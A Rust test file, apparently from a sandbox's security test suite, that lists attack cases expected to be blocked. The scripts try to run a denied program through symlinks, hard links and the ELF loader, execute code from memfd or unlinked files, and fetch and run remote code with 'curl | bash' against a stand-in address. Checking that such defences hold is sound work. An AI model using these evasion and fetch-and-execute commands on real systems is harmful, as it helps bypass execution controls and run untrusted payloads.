//! Programs by other names, by their loader, without a file, and fetched from elsewhere (A12 to A14, A23).

use crate::attack::{Attack, Harm};
use crate::guest::Who;

pub const ATTACKS: &[Attack] = &[
    Attack {
        name: "A12_a_denied_program_does_not_run_by_another_name",
        who: Who::Dev,
        before: "",
        script: r#"
/proc/self/root/usr/bin/nsenter --version
ln -s /usr/bin/nsenter tool; ./tool --version
ln /usr/bin/nsenter /home/dev/work/hard; ./hard --version
(exec -a ls /usr/bin/nsenter --version)
/usr/bin/../bin/nsenter --version
env nsenter --version"#,
        harm: Harm::Said("from util-linux", 6),
        told: &[
            &["/usr/bin/nsenter", "\"EACCES\"", "exec.deny["],
            &["/usr/bin/nsenter", "\"EACCES\"", "lsm/path_link"],
        ],
    },
    Attack {
        name: "A12_a_copied_client_reaches_nobody_either",
        who: Who::Dev,
        before: "",
        script: r#"
cp /usr/bin/curl mine; ./mine -sm5 http://203.0.113.10/copied
/proc/self/root/usr/bin/curl -sm5 http://203.0.113.10/alias
python3 -c 'import urllib.request as r; r.urlopen("http://203.0.113.10/python", timeout=5)'
node -e 'require("http").get("http://203.0.113.10/node")'
wget -qT5 -t1 -O- http://203.0.113.10/wget
busybox wget -q -O- http://203.0.113.10/busybox"#,
        harm: Harm::Arrived("tcp-203.0.113.10:80", "GET /", 6),
        told: &[
            &["203.0.113.10", "\"ENETUNREACH\"", "/home/dev/work/mine"],
            &["203.0.113.10", "\"ENETUNREACH\"", "python3"],
            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/node"],
            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/busybox"],
        ],
    },
    Attack {
        name: "A13_the_loader_does_not_run_a_denied_program",
        who: Who::Dev,
        before: "",
        script: "/lib64/ld-linux-x86-64.so.2 /usr/bin/nsenter --version; /lib64/ld-linux-x86-64.so.2 /usr/bin/curl -sm5 http://203.0.113.10/",
        harm: Harm::Said("nsenter from util-linux", 1),
        told: &[
            &["/usr/bin/nsenter", "\"EACCES\"", "lsm/mmap_file", "exec.deny["],
            &["203.0.113.10", "\"ENETUNREACH\""],
        ],
    },
    Attack {
        name: "A14_nothing_runs_from_memory_or_without_a_name",
        who: Who::Dev,
        before: "",
        script: r#"
cp /usr/bin/id /dev/shm/x; /dev/shm/x
cp /usr/bin/id /tmp/x; /tmp/x
cat >memory.py <<'P'
import os, sys
code = open('/usr/bin/id', 'rb').read()
if sys.argv[1] == 'memfd':
    fd = os.memfd_create('x')
    os.write(fd, code)
else:
    fd = os.open('/dev/shm/y', os.O_RDWR | os.O_CREAT, 0o755)
    os.write(fd, code); os.close(fd)
    fd = os.open('/dev/shm/y', os.O_RDONLY)
    os.unlink('/dev/shm/y')
try:
    os.execve(fd if sys.argv[1] == 'memfd' else '/proc/self/fd/%d' % fd, ['id'], {})
except OSError as error:
    print(error)
P
python3 memory.py memfd; python3 memory.py unlinked"#,
        harm: Harm::Said("uid=1000", 4),
        told: &[
            &["/dev/shm/x", "\"EACCES\""],
            &["/tmp/x", "\"EACCES\""],
            &["memfd", "\"EACCES\""],
            &["/dev/shm/y", "\"EACCES\""],
        ],
    },
    Attack {
        name: "A23_nothing_is_fetched_and_run",
        who: Who::Dev,
        before: "",
        // The attacker's server answers with `planted-answer`, which a shell that runs it complains of.
        script: r#"
curl -sm5 -o /tmp/a http://203.0.113.10/a && chmod +x /tmp/a && /tmp/a
curl -sm5 http://203.0.113.10/a | bash
wget -qT5 -t1 -O- http://203.0.113.10/a | sh 2>&1 | cat
printf '#!/bin/sh\necho planted-answer\n' >/tmp/b && chmod +x /tmp/b && /tmp/b"#,
        harm: Harm::Said("planted-answer", 4),
        told: &[
            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/curl"],
            &["203.0.113.10", "\"ENETUNREACH\"", "/usr/bin/wget"],
            &["/tmp/b", "\"EACCES\"", "\"execute\""],
        ],
    },
];
